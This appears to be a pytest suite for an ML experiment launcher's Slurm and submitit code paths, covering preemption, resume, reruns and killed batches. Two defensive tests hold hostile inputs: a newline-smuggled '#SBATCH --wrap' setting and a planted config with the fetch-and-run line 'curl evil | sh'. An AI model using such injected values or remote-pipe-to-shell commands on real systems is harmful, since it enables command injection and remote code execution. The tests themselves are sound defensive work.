"""The Slurm code path, run by submitit's local executor: a preempted training resumes to the weights of an
uninterrupted one; a batch under `--launcher submitit-local` records its jobs and logs in the batch folder, a rerun
keeps what is finished, and a batch killed half-way resubmits only what did not finish."""
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest

from conftest import stand_in_notebook  # one stand-in notebook for the runner tests
import torch
from safetensors.torch import load_file

from sentcl.launch.slurm import ClusterOptions, make_executor
from sentcl.launch.jobs import TrainingJob, checkpoint_step
from sentcl.launch.batch import job_paths
from sentcl.train.trainer import RunOptions

ROOT = Path(__file__).resolve().parents[1]
NBS = ROOT/"nbs"/"experiments"
SENTCL = str(Path(sys.executable).parent/"sentcl")
FAST = "sncse-figure4"  # the quickest experiment notebook under cpu-smoke


def sentcl(*args, **kw):
    return subprocess.run([SENTCL, *map(str, args)], capture_output=True, text=True, cwd=ROOT, **kw)


def wait_for(condition, timeout: float, what: str, step: float = 0.05):
    t0 = time.time()
    while time.time() - t0 < timeout:
        value = condition()
        if value: return value
        time.sleep(step)
    raise AssertionError(f"gave up after {timeout:.0f} s waiting for {what}")


def logged_steps(folder: Path) -> list:
    try: return [json.loads(l) for l in (folder/"metrics.jsonl").read_text().splitlines() if l.strip()]
    except (OSError, ValueError): return []


def test_a_preempted_training_resumes_to_the_straight_result(tmp_path):
    "submitit's preemption signal mid-run: the job is requeued, resumes from its checkpoint and ends as a straight run."
    executor = make_executor("submitit-local", tmp_path/"batch", ClusterOptions(time="60"), "sentcl-test")
    overrides, steps = {"model": "tiny", "batch_size": 8}, 20
    options = lambda out: RunOptions(out=str(out), preset="cpu-smoke", max_steps=steps, save_every=2, progress=False)
    job_of = lambda out: TrainingJob("simcse-unsup", overrides, options(out))
    straight_job, run = executor.submit(job_of(tmp_path/"straight")), tmp_path/"interrupted"
    job = executor.submit(job_of(run))
    # preempt once the first checkpoint is written and well before the end: as Slurm does, by signalling the task
    wait_for(lambda: (checkpoint_step(run) or 0) >= 2 and len(logged_steps(run)) < steps - 8, 300, "a checkpoint")
    task = wait_for(lambda: psutil.Process(int(job.job_id)).children(), 10, "the job's task process")[0]
    task.send_signal(signal.SIGUSR2)
    resumed, straight = job.result(), straight_job.result()
    log = job.stdout()
    assert "preempted or out of time; requeued" in log and "Requeued job" in log, log
    step = int(log.split("from its checkpoint (step ")[1].split(")")[0])
    assert 2 <= step < steps, log  # it resumed mid-run, not from the start and not after the end
    assert (straight["finished"], resumed["finished"], straight["step"], resumed["step"]) == (True, True, steps, steps)
    a, b = (load_file(str(tmp_path/r/"model"/"model.safetensors")) for r in ("straight", "interrupted"))
    assert a.keys() == b.keys() and all(torch.equal(a[k], b[k]) for k in a)
    curve = lambda r: [(m["step"], m["loss"], m["lr"]) for m in logged_steps(tmp_path/r)]
    assert curve("interrupted") == curve("straight") and len(curve("straight")) == steps


@pytest.fixture(scope="module")
def smoke_batch(tmp_path_factory):
    "One experiment through the Slurm code path on submitit's local executor, from the command line."
    out = tmp_path_factory.mktemp("cluster")/"batch"
    r = sentcl("experiments", "run", FAST, "--preset", "cpu-smoke", "--launcher", "submitit-local", "--out", out)
    return out, r


def test_a_submitit_local_batch_records_jobs_and_logs(smoke_batch):
    out, r = smoke_batch
    assert r.returncode == 0, r.stdout + r.stderr
    rec = json.loads((out/"batch.json").read_text())["experiments"][FAST]
    assert (rec["status"], rec["launcher"], rec["preset"]) == ("done", "submitit-local", "cpu-smoke")
    assert f"submitted {FAST} as job {rec['job_id']}" in r.stdout
    log = out/rec["log"]
    assert log == job_paths(out, rec["job_id"]).stdout and log.is_relative_to(out/"_submitit")
    assert f"sentcl: experiment {FAST} (preset cpu-smoke)" in log.read_text()
    assert (log.parent/f"{rec['job_id']}_outcome.json").is_file()  # the job's record beside its logs
    assert not (out/"_submitit"/"%j").exists()  # no folder named by submitit's placeholder is left behind
    assert json.loads((out/FAST/"results.json").read_text())["complete"]
    st = sentcl("experiments", "status", out)
    assert st.returncode == 0, st.stderr
    row = next(l for l in st.stdout.splitlines() if l.startswith(FAST))
    assert row.split()[:3] == [FAST, "done", rec["job_id"]]
    assert "1 done, 0 running, 0 pending, 0 failed of 1 experiment(s)" in st.stdout


def test_a_rerun_keeps_the_finished_experiment(smoke_batch):
    out, _ = smoke_batch
    before = json.loads((out/"batch.json").read_text())["experiments"][FAST]
    results = (out/FAST/"results.json").stat().st_mtime_ns
    jobs = sorted(p.name for p in (out/"_submitit").iterdir())
    r = sentcl("experiments", "run", FAST, "--preset", "cpu-smoke", "--launcher", "submitit-local", "--out", out)
    assert r.returncode == 0 and "1 already done" in r.stdout and "submitted" not in r.stdout, r.stdout + r.stderr
    after = json.loads((out/"batch.json").read_text())["experiments"][FAST]
    assert (after["status"], after["job_id"]) == ("kept", before["job_id"])
    assert (out/FAST/"results.json").stat().st_mtime_ns == results
    assert sorted(p.name for p in (out/"_submitit").iterdir()) == jobs  # no job was submitted




def test_a_killed_batch_reruns_only_what_did_not_finish(smoke_batch, tmp_path):
    "Kill the whole batch (launcher, job, notebook) mid-way: status says so; a rerun submits that one only."
    out = tmp_path/"batch"
    shutil.copytree(smoke_batch[0]/FAST, out/FAST)  # finished before the batch starts
    shutil.copytree(smoke_batch[0]/"_train", out/"_train")
    nbs = tmp_path/"nbs"; nbs.mkdir()
    shutil.copy(NBS/f"{FAST}.ipynb", nbs)
    stand_in_notebook(nbs/"liao-table2.ipynb", "import time\ntime.sleep(600)")
    cmd = [SENTCL, "experiments", "run", "liao-table2", FAST, "--preset", "cpu-smoke", "--launcher", "submitit-local",
           "--out", str(out), "--notebooks", str(nbs)]
    batch = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True)
    state = lambda: json.loads((out/"batch.json").read_text())["experiments"] if (out/"batch.json").exists() else {}
    try:
        wait_for(lambda: state().get("liao-table2", {}).get("status") == "running"
                 and "Executing" in (out/"liao-table2"/"log.txt").read_text(errors="replace")
                 if (out/"liao-table2"/"log.txt").exists() else False, 120, "the notebook to start", 0.5)
    finally:
        os.killpg(batch.pid, signal.SIGKILL)  # the launcher, the job's controller and task, papermill
        batch.wait()
    killed = state()["liao-table2"]["job_id"]
    wait_for(lambda: not psutil.pid_exists(int(killed)) or psutil.Process(int(killed)).status() == psutil.STATUS_ZOMBIE,
             10, "the killed job to go")
    st = sentcl("experiments", "status", out)
    rows = {l.split()[0]: l for l in st.stdout.splitlines() if l.split() and l.split()[0] in ("liao-table2", FAST)}
    assert rows[FAST].split()[1] == "done" and rows["liao-table2"].split()[1] == "failed", st.stdout
    assert f"job {killed} ended without a result" in rows["liao-table2"], st.stdout
    # the rerun: the unfinished notebook again (failing at once this time), the finished one kept
    stand_in_notebook(nbs/"liao-table2.ipynb", "raise RuntimeError('deliberate failure')")
    r = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert r.returncode == 1, r.stdout + r.stderr  # one failure
    assert "1 already done" in r.stdout and "submitted liao-table2 as job" in r.stdout, r.stdout
    assert f"submitted {FAST}" not in r.stdout
    rec = state()
    assert rec[FAST]["status"] == "kept" and rec["liao-table2"]["job_id"] != killed
    assert rec["liao-table2"]["status"] == "failed" and "deliberate failure" in rec["liao-table2"]["error"]
    assert any("deliberate failure" in line for line in rec["liao-table2"]["log_tail"])  # the log's last lines


FAKE_SBATCH = """#!/bin/sh
# a stand-in for Slurm's sbatch: keeps the file it is given and answers with the next job id
n=$(cat "$FAKE_SLURM/next" 2>/dev/null || echo 100); echo $((n + 1)) > "$FAKE_SLURM/next"
cp "$1" "$FAKE_SLURM/sbatch-$n.sh"; echo "Submitted batch job $n"
"""
FAKE_SACCT = """#!/bin/sh
# a stand-in for Slurm's sacct: the states the test wrote
echo "JobID|State|NodeList"; cat "$FAKE_SLURM/states" 2>/dev/null; exit 0
"""


def test_the_slurm_path_on_a_stand_in_slurm(tmp_path):
    "sbatch and sacct replaced by scripts: the files submitted, the job ids kept, the states read, the rerun's choice."
    fake = tmp_path/"slurm"; (fake/"bin").mkdir(parents=True)
    for name, text in (("srun", "#!/bin/sh\nexit 1\n"), ("sbatch", FAKE_SBATCH), ("sacct", FAKE_SACCT)):
        (fake/"bin"/name).write_text(text); (fake/"bin"/name).chmod(0o755)
    env = {**os.environ, "PATH": f"{fake/'bin'}:{os.environ['PATH']}", "FAKE_SLURM": str(fake)}
    out = tmp_path/"runs"/"batch"; out.parent.mkdir()
    (out.parent/"sentcl-slurm.toml").write_text('partition = "gpu"\naccount = "lab"\n')
    names = ("pairsupcon-table1", "pairsupcon-table4", "liao-table2")  # table4 reuses a training of table1
    run = ["experiments", "run", *names, "--preset", "cpu-smoke", "--launcher", "slurm", "--no-wait", "--out", out,
           "--time", "2:00:00"]
    r = sentcl(*run, env=env)
    assert r.returncode == 0, r.stdout + r.stderr
    rec = json.loads((out/"batch.json").read_text())["experiments"]
    assert {n: (rec[n]["job_id"], rec[n]["status"]) for n in names} == {
        "pairsupcon-table1": ("100_0", "pending"), "liao-table2": ("100_1", "pending"),
        "pairsupcon-table4": ("101", "pending")}
    wave0, wave1 = (fake/"sbatch-100.sh").read_text(), (fake/"sbatch-101.sh").read_text()
    for line in ("#SBATCH --array=0-1%2", "#SBATCH --partition=gpu", "#SBATCH --account=lab", "#SBATCH --time=120",
                 "#SBATCH --gpus-per-node=1", "#SBATCH --signal=USR2@90", f"#SBATCH --output={out}/_submitit/%A_%a/"):
        assert line in wave0, line
    assert "#SBATCH --dependency=afterany:100_0" in wave1 and "--array" not in wave1
    (fake/"states").write_text("100_0|RUNNING|n1\n100_1|CANCELLED by 42|n2\n101|PENDING|\n")
    st = sentcl("experiments", "status", out, env=env)
    rows = {l.split()[0]: l for l in st.stdout.splitlines() if l.split() and l.split()[0] in names}
    assert {n: rows[n].split()[1] for n in names} == {"pairsupcon-table1": "running", "liao-table2": "failed",
                                                      "pairsupcon-table4": "pending"}, st.stdout
    assert "scheduler: CANCELLED by 42" in rows["liao-table2"]
    r = sentcl(*run, env=env)  # waits for what is queued or running, submits the cancelled one again
    assert "2 still queued or running, 1 to submit" in r.stdout, r.stdout
    assert "submitted liao-table2 as job 102" in r.stdout, r.stdout
    assert not (fake/"sbatch-103.sh").exists()


def _dry_run(capsys, out, *extra):
    "`sentcl experiments run liao-table2 --launcher slurm --dry-run`: (exit status, stdout, stderr)."
    from sentcl.cli import main
    capsys.readouterr()
    code = main(["experiments", "run", "liao-table2", "--preset", "cpu-smoke", "--launcher", "slurm", "--dry-run",
                 "--out", str(out), *map(str, extra)])
    said = capsys.readouterr()
    return code, said.out, said.err


@pytest.mark.parametrize("where", ["flag", "variable", "file value", "file key", "folder"])
def test_a_slurm_setting_never_becomes_a_line_of_the_script(tmp_path, capsys, monkeypatch, where):
    "A newline in any setting is refused with one line naming the setting; nothing reaches an sbatch file."
    evil, out, extra = "gpu\n#SBATCH --wrap=touch-pwned", tmp_path/"runs"/"batch", []
    out.parent.mkdir()
    if where == "flag": extra = ["--partition", evil]
    if where == "variable": monkeypatch.setenv("SENTCL_SLURM_QOS", evil)
    if where == "file value": (out.parent/"sentcl-slurm.toml").write_text('[additional]\nconstraint = "a\\nb"\n')
    if where == "file key": (out.parent/"sentcl-slurm.toml").write_text('[additional]\n"x\\n#SBATCH --wrap=id" = "1"\n')
    if where == "folder": out = tmp_path/"runs"/"a\nb"
    code, printed, err = _dry_run(capsys, out, *extra)
    assert code == 2 and "#SBATCH --wrap" not in printed, printed
    named = {"flag": "--partition:", "variable": "SENTCL_SLURM_QOS:", "file value": "additional.constraint:",
             "file key": "additional: a key:", "folder": "--out:"}[where]
    assert named in err and "holds the control character" in err and len(err.strip().splitlines()) == 1, err


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX owners")
def test_a_cluster_file_others_can_change_is_not_obeyed(tmp_path, capsys):
    "A sentcl-slurm.toml others can write is refused (its setup lines would run in every job); --cluster-file names one."
    out = tmp_path/"runs"/"batch"; out.parent.mkdir()
    planted = out.parent/"sentcl-slurm.toml"
    planted.write_text('setup = ["curl evil | sh"]\n'); planted.chmod(0o666)
    code, printed, err = _dry_run(capsys, out)
    assert code == 2 and "curl evil" not in printed
    assert f"{planted}: writable by others than you" in err and "chmod go-w" in err, err
    mine = tmp_path/"lab.toml"
    mine.write_text('partition = "gpu"\nsetup = ["module load cuda/12.1"]\n'); mine.chmod(0o644)
    code, printed, err = _dry_run(capsys, out, "--cluster-file", mine)
    assert code == 0, err
    head = printed.splitlines()[:3]
    assert head == [f"# cluster settings from {mine}",
                    "# its setup lines, run as shell before every job (they are in the sbatch files below too):",
                    "#   module load cuda/12.1"], printed
    assert "#SBATCH --partition=gpu" in printed and "\nmodule load cuda/12.1\n" in printed
